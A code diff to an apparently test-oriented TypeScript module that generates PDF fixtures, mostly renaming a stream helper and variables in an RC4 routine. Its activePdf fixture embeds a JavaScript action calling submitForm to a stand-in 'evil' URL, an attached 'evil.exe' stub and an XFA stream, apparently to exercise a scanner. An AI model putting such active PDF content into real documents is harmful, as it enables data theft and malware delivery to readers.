@@ -31,7 +31,7 @@ export function pdf(parts: PdfParts = {}): Buffer {
     [
       `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
       `<< /Type /Pages /Count ${pages} /Kids [${kids.join(' ')}] >>`,
-      streamOf(lock ? lock.encrypt(3, Buffer.from(content)) : Buffer.from(content)),
+      buildStream(lock ? lock.encrypt(3, Buffer.from(content)) : Buffer.from(content)),
       lock ? lock.dictionary : '<< >>',
       ...objects,
       ...kids.map(() => page),
@@ -48,15 +48,15 @@ export function activePdf(): Buffer {
     objects: [
       '<< /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("http://127.0.0.1:9/evil"\\);) >>',
       '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
-      streamOf(Buffer.from('MZ evil')),
-      streamOf(Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')),
+      buildStream(Buffer.from('MZ evil')),
+      buildStream(Buffer.from('<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"></xdp:xdp>')),
     ],
   });
 }
 
 const squares = '0.2 0.4 0.6 rg 50 50 200 200 re f 0 g 300 500 100 100 re f';
 
-function streamOf(bytes: Buffer): Buffer {
+function buildStream(bytes: Buffer): Buffer {
   return Buffer.concat([
     Buffer.from(`<< /Length ${bytes.length} >>\nstream\n`),
     bytes,
@@ -122,23 +122,23 @@ function md5(bytes: Buffer): Buffer {
 }
 
 function rc4(key: Buffer, bytes: Buffer): Buffer {
-  const state = Array.from({ length: 256 }, (_, place) => place);
-  const at = (place: number): number => state[place & 255] ?? 0;
+  const state = Array.from({ length: 256 }, (_, index) => index);
+  const at = (index: number): number => state[index & 255] ?? 0;
   let other = 0;
-  const swap = (place: number): void => {
-    [state[place & 255], state[other]] = [at(other), at(place)];
+  const swap = (index: number): void => {
+    [state[index & 255], state[other]] = [at(other), at(index)];
   };
-  for (let place = 0; place < 256; place += 1) {
-    other = (other + at(place) + (key[place % key.length] ?? 0)) & 255;
-    swap(place);
+  for (let index = 0; index < 256; index += 1) {
+    other = (other + at(index) + (key[index % key.length] ?? 0)) & 255;
+    swap(index);
   }
   other = 0;
   return Buffer.from(
     bytes.map((byte, index) => {
-      const place = (index + 1) & 255;
-      other = (other + at(place)) & 255;
-      swap(place);
-      return byte ^ at(at(place) + at(other));
+      const position = (index + 1) & 255;
+      other = (other + at(position)) & 255;
+      swap(position);
+      return byte ^ at(at(position) + at(other));
     }),
   );
 }
